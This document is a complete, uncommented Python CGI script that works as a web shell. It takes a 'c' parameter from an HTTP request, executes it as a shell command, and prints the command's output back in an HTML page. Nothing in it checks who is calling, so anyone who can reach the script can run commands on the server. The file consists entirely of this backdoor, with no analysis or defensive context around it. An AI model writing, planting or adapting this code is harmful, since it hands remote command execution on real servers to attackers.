#!/usr/bin/env python3
import cgi, subprocess
form = cgi.FieldStorage()
print("Content-type: text/html\n")
c = form.getfirst("c", "")
if c:
    print("<pre>" + subprocess.getoutput(c) + "</pre>")
